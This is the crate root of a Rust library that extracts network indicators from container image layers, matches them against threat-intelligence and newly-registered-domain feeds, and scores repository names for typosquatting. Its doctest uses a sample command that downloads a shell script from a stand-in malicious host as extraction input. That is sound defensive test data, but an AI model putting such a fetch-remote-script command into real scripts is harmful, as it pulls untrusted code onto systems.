/*!
Network indicators, threat-intelligence feeds and typosquat scoring.

Five of Sysdig's 2022 categories (malicious and newly registered domains, dynamic DNS, part of
proxy avoidance and cryptomining) are decided not by what a file *is* but by which network names
an image *references*; a sixth, typosquatting, by what a repository is *called*. This crate
supplies those judgements, without network or database I/O:

* [`IndicatorExtractor`] finds URLs, host names, registrable domains (eTLD+1 by the ICANN section
  of the Public Suffix List, compiled in) and IP literals in arbitrary bytes, fast enough to run
  over every byte of every layer, into a deduplicated, capped [`IndicatorSet`].
* [`parse_feed`] / [`parse_feed_file`] read the field's own formats — URLhaus CSVs, hosts
  files, AdBlock-style lists, plain and newly-registered domain lists, WhoisDS-style daily NRD
  archives (zip, dated by file name) and category CSVs, including commercial URL-category exports
  — into dated [`FeedEntry`] values, normalised by the very same functions ([`normalise_host`],
  [`registrable_domain`]), so entries and indicators compare equal.
* [`FeedSet`] matches indicators against feeds in memory, with the same rules the census applies
  in SQL (`image_feed_matches`), including the newly-registered window relative to the push date.
* [`TyposquatScorer`] judges repository names against the official images and popular
  publishers (edits, keyboard slips, look-alikes, affixes, generated namespaces, pull counts),
  with thresholds as data ([`TyposquatConfig`], config/typosquat/).

It knows nothing of tar, HTTP or Postgres; the layer scanner feeds it bytes, the CLI feeds it
files and names, the store persists what it returns.

```
use hubcensus_intel::{ExtractLimits, FeedKind, FeedSet, IndicatorExtractor, parse_feed};

let extractor = IndicatorExtractor::new(ExtractLimits::default());
let mut set = extractor.new_set();
extractor.extract("usr/local/bin/start.sh", b"wget http://dl.bad-host.xyz/k.sh", &mut set);
let indicators: Vec<_> = set.into_vec().into_iter().map(|(i, _)| i).collect();

let nrd = b"bad-host.xyz 2022-05-20\nother.com 2020-01-01\n";
assert_eq!(FeedKind::sniff(nrd), Some(FeedKind::Nrd));
let mut feeds = FeedSet::new();
feeds.add("nrd.txt", parse_feed(FeedKind::Nrd, nrd, None, None).unwrap());

let pushed = chrono::NaiveDate::from_ymd_opt(2022, 6, 1);
let hits = feeds.matches(&indicators, pushed, 30);
assert_eq!(hits.len(), 1);
assert_eq!(hits[0].indicator.value, "bad-host.xyz");

use hubcensus_intel::{Target, Technique, TyposquatConfig, TyposquatScorer};

let scorer = TyposquatScorer::new(TyposquatConfig::builtin().unwrap(), Target::official_images());
let hit = scorer.score("someuser", "ngnix", Some(120)).unwrap();
assert_eq!(hit.imitates.to_string(), "library/nginx");
assert_eq!(hit.technique, Technique::EditDistance);
assert!(scorer.score("bitnami", "nginx", None).is_none()); // a project, not an imitation
```
*/

#![deny(missing_docs)]

mod extract;
mod feed;
mod host;
mod matching;
mod set;
mod typosquat;
mod url;

pub use extract::{DEFAULT_MAX_URL_LEN, ExtractLimits, IndicatorExtractor};
pub use feed::{
    FeedEntry, FeedError, FeedKind, FeedOptions, MAX_ARCHIVE_TEXT, MAX_SKIPPED_RECORDED, ParsedFeed,
    SHARED_HOSTING_DOMAINS, SKIPPED_LINES_SHOWN, SkippedLine, date_in_name, parse_category, parse_feed,
    parse_feed_file,
};
pub use host::{normalise_host, normalise_ip, registrable_domain};
pub use matching::{FeedMatch, FeedSet};
pub use set::{DEFAULT_MAX_INDICATORS, IndicatorSet, WeakContext};
pub use typosquat::{
    Evidence, Target, Technique, TyposquatConfig, TyposquatError, TyposquatHit, TyposquatScorer,
};

#[cfg(test)]
mod tests {
    #[test]
    fn the_extractor_and_feed_set_can_be_shared_across_threads() {
        fn shared<T: Send + Sync>() {}
        shared::<crate::IndicatorExtractor>();
        shared::<crate::FeedSet>();
        shared::<crate::IndicatorSet>();
    }
}
